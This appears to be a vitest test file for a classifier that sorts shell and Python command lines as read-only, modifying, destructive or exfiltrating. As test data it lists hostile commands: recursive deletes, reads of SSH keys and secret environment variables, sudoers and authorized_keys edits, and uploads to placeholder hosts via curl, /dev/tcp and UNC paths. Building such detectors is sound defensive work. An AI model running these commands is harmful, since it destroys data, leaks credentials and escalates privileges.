import { describe, expect, test } from 'vitest'

import { commandClasses, type CommandClass, type CommandShell } from '../../../shared/domain/command-class.ts'
import { classifyCommand } from './classify-command.ts'

function classOf(shell: CommandShell, line: string): CommandClass {
  return classifyCommand(shell, line).verdict
}

describe('what a program of Python starts is judged as the line that it is', () => {
  test.each([
    ["import subprocess\nsubprocess.run(['ls', '-la'])", 'modifies'],
    ["import subprocess\nsubprocess.run(['rm', '-rf', 'data'])", 'destructive'],
    ["import os\nos.system('rm -rf data')", 'destructive'],
    ["import os as o\no.system('del /s /q C:/data')", 'destructive'],
    ["from subprocess import check_output\nprint(check_output(['cat', '/home/ann/.ssh/id_rsa']))", 'exfiltrates'],
    ['import subprocess as sp\nsp.Popen("curl -T a.txt ftp://198.51.100.7", shell=True)', 'exfiltrates'],
    // What is put together is not shown.
    ['import subprocess\nsubprocess.run([program, "a"])', 'destructive'],
    ["import os\nos.system('r' + 'm a')", 'destructive'],
    ['import os\nos.system(f"rm {x}")', 'destructive'],
  ] as const)('%s: %s', (line, expected) => {
    const { verdict, understood } = classifyCommand('python', line)
    expect([verdict, understood]).toEqual([expected, false])
  })

  test('at its own line', () => {
    const { reasons } = classifyCommand('python', "import os\n\nos.system('rm a')")
    expect(reasons).toContainEqual({ code: 'deletes_files', line: 3 })
  })
})

describe('a switch with a value', () => {
  test.each([
    ['posix', 'journalctl -u ssh -n 20 -p err'],
    ['posix', 'journalctl -xeu ssh'],
    ['posix', 'sort -t , -k 2 a.csv'],
    ['posix', 'find . -size -5k -mtime -2'],
    ['cmd', "wmic process where name='notepad.exe' get processid,name /value"],
  ] as const)('%s: %s only reads', (shell, line) => {
    expect(classOf(shell, line)).toBe('read_only')
  })

  test.each([
    ['posix', 'journalctl -n --vacuum-time=1s'],
    ['posix', 'journalctl -u --rotate'],
    ['posix', 'sort -t -o a.csv'],
    ['posix', 'find . -name -delete'],
    ['cmd', "wmic process where name='a' call terminate get"],
    ['cmd', "wmic process where name='a' delete get x"],
    ['cmd', "wmic process where name='a' get name /format:http://198.51.100.7/a"],
  ] as const)('%s: %s does not swallow another one', (shell, line) => {
    expect(classOf(shell, line)).not.toBe('read_only')
  })
})

test('what is written to a file that says who may do what grants rights', () => {
  for (const line of [
    "echo 'ann ALL=(ALL) ALL' >> /etc/sudoers.d/ann",
    'echo x > /etc/passwd',
    'echo key >> ~/.ssh/authorized_keys',
    'cp mine /etc/pam.d/sudo',
    'ln -sf mine /etc/group',
  ])
    expect([line, commandClasses.indexOf(classOf('posix', line)) >= 2]).toEqual([line, true])
  expect(classOf('posix', 'cat /etc/passwd')).toBe('read_only')
})

describe('a program that reads in one way and changes in another', () => {
  test.each([
    ['cmd', 'nbtstat -r', 'nbtstat -R'],
    ['cmd', 'pktmon filter list', 'pktmon filter remove'],
    ['cmd', 'python -V', 'python -v'],
    ['cmd', 'slmgr /dli', 'slmgr /upk'],
    ['cmd', String.raw`cscript //nologo C:\Windows\System32\slmgr.vbs /xpr`, 'cscript //nologo slmgr.vbs /xpr'],
    ['cmd', 'attrib a.txt', 'attrib +rh'],
    ['cmd', 'shutdown /?', 'shutdown /r'],
    ['cmd', 'robocopy /?', 'robocopy /? a'],
    ['cmd', 'format /?', 'mshta /?'],
    ['cmd', 'help dir', 'nobody /?'],
    ['cmd', 'cipher data', 'cipher /e data'],
    ['posix', 'rm --help', 'rm --help -rf a'],
    ['posix', 'mount', 'mount /dev/sdb1 /mnt'],
    ['posix', 'apt list --upgradable', 'apt upgrade'],
    ['posix', 'docker logs web', 'docker exec web rm a'],
    ['powershell', "gc a.log | ? { $_ -match 'error' }", 'gc a.log | ? { $_ -match (rm a) }'],
    ['cmd', 'wsl --list --verbose', 'wsl --shutdown'],
    ['cmd', 'wmic path win32_battery get status', 'wmic path win32_battery delete'],
    [
      'cmd',
      String.raw`wmic /namespace:\\root\wmi path MSAcpi_ThermalZoneTemperature get CurrentTemperature`,
      String.raw`wmic /namespace:\\root\subscription path __EventFilter create Name="x"`,
    ],
    ['posix', 'ip -s link', 'ip -b lines.txt'],
    ['posix', 'ip -4 route show', 'ip -4 route flush cache'],
    ['posix', 'ip -s neigh', 'ip -s neigh flush all'],
    ['posix', 'npm audit', 'npm audit fix'],
    ['posix', 'date -u +%F', 'date -u 010112002030'],
    ['posix', 'arch', 'arch rm -rf a'],
    ['posix', 'git tag -l', 'git tag v1'],
    ['posix', 'dmesg --level=err', 'dmesg -C'],
    ['powershell', 'Test-ComputerSecureChannel', 'Test-ComputerSecureChannel -Repair'],
    ['powershell', 'Get-Content a.log -Wait -Tail 3', 'Get-Content a.log -OutVariable b'],
    ['powershell', 'Get-PrintJob -PrinterName HP4', 'Get-PrintJob HP4 | Remove-PrintJob'],
    ['powershell', 'Get-Process -ea SilentlyContinue', 'Get-Process -ev +a'],
    ['powershell', '(Get-Date) - (Get-CimInstance Win32_OperatingSystem).LastBootUpTime', '(Get-Date) - (rm a).b'],
    ['powershell', 'Get-WindowsPackage -Online', String.raw`Get-WindowsPackage -Online -LogPath C:\a.log`],
  ] as const)('%s: %s reads, %s does not', (shell, reads, changes) => {
    expect([classOf(shell, reads), classOf(shell, changes) === 'read_only']).toEqual(['read_only', false])
  })
})

test.each([
  ['cmd', 'echo %AWS_SECRET_ACCESS_KEY%'],
  ['cmd', 'set AWS_SECRET'],
  ['powershell', '$env:GITHUB_TOKEN'],
  ['powershell', 'Write-Output "is ${env:DB_PASSWORD}"'],
  ['powershell', 'Get-ChildItem Env:*token*'],
  ['powershell', String.raw`Get-Content Microsoft.PowerShell.Core\Environment::API_KEY`],
  ['powershell', String.raw`gc env:\AWS_SECRET_ACCESS_KEY`],
  ['powershell', '(Get-BitLockerVolume C:).KeyProtector'],
  ['powershell', 'Get-BitLockerVolume C: | select -ExpandProperty KeyProtector'],
  ['powershell', 'Get-BitLockerVolume | ConvertTo-Json -Depth 4'],
  ['powershell', 'Get-ChildItem Env: | Where-Object Name -match token'],
  ['cmd', 'set | findstr TOKEN'],
  ['posix', 'env | grep -i token'],
  ['posix', 'printenv AWS_SECRET_ACCESS_KEY'],
  ['posix', 'echo "$API_KEY"'],
  ['posix', 'cat /proc/self/environ'],
] as const)('%s: %s shows a password or a key', (shell, line) => {
  expect(classOf(shell, line)).toBe('exfiltrates')
})

test.each([
  ['cmd', 'echo secret token'],
  ['cmd', 'set USERNAME'],
  ['cmd', 'tasklist /fi "imagename eq lsass.exe"'],
  ['powershell', 'Write-Output "%API_KEY%"'],
  ['powershell', 'Get-ChildItem Env:'],
  ['cmd', 'set | findstr PATH'],
  ['posix', 'grep token a.log'],
  ['powershell', 'Get-BitLockerVolume | Format-Table MountPoint, ProtectionStatus'],
  ['posix', "echo '$API_KEY'"],
] as const)('%s: %s shows none', (shell, line) => {
  expect(classOf(shell, line)).toBe('read_only')
})

test.each([
  ['cmd', String.raw`dir \\%COMPUTERNAME%.gather.example\x`],
  ['cmd', String.raw`dir \\?\UNC\203.0.113.9\x`],
  ['cmd', String.raw`type \\.\UNC\203.0.113.9\share\a.txt`],
  ['powershell', String.raw`Test-Path "\\$env:USERNAME.gather.example\x"`],
  ['posix', 'cat a.txt > /dev/tcp/203.0.113.9/80'],
] as const)('%s: %s tells another computer something', (shell, line) => {
  expect(classOf(shell, line)).toBe('exfiltrates')
})

test('a connection that a shell opens by the name of a file is not reading', () => {
  expect(classOf('posix', 'cat < /dev/tcp/203.0.113.9/80')).toBe('modifies')
})

test('what only looks like a blank is a letter to cmd.exe and POSIX shells, and a blank to PowerShell', () => {
  for (const blank of ['\u00a0', '\u2003', '\u3000']) {
    expect(classOf('cmd', `ipconfig${blank}/all`)).toBe('destructive')
    expect(classOf('posix', `ls${blank}-la`)).toBe('destructive')
    expect(classOf('powershell', `Get-Date${blank}-Format${blank}yyyy`)).toBe('read_only')
  }
})
